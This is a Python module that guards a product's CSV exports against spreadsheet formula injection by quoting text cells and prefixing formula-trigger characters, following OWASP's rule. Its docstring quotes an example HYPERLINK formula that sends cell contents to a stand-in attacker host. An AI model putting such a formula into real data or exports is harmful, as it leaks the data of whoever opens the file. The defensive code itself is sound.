"""CSV the product writes, safe to open in a spreadsheet (CSV or formula injection, OWASP).

Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return before one) as a formula: a community or creator named
``=HYPERLINK("https://evil.example/?"&A1, "click")`` would run in the manager's spreadsheet.
Every CSV writer of the product is ``csv_writer`` below, which applies OWASP's rule: such a cell is
prefixed with a single quote, shown as text, and every text cell is quoted (so a ``;`` inside
one cannot start a new cell where ``;`` separates them).

Which cells: by type, not by origin. Text (``str``) is neutralised whatever wrote it, because
text the product writes often carries text from outside (``Ivy (#3)``, a community's name) and
none of its own labels begin with those characters. Numbers (int, float, Decimal) are written
as numbers, unquoted: they are computed by the product, ``-0.25`` cannot be a formula, and a
spreadsheet must be able to sum a negative change.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

# OWASP's list (https://owasp.org/www-community/attacks/CSV_Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def csv_cell(value: Any) -> Any:
    """``value`` as a cell no spreadsheet runs: text beginning with a formula character gets a
    leading ``'``; anything else (numbers, None, other text) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer``'s ``writerow``/``writerows``, every cell through ``csv_cell``; text quoted,
    numbers not (``csv.QUOTE_NONNUMERIC``)."""

    def __init__(self, out: _Writable):
        self._writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell("" if value is None else value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable) -> SafeWriter:
    """The writer every CSV download uses (see the module for what it changes and why)."""
    return SafeWriter(out)
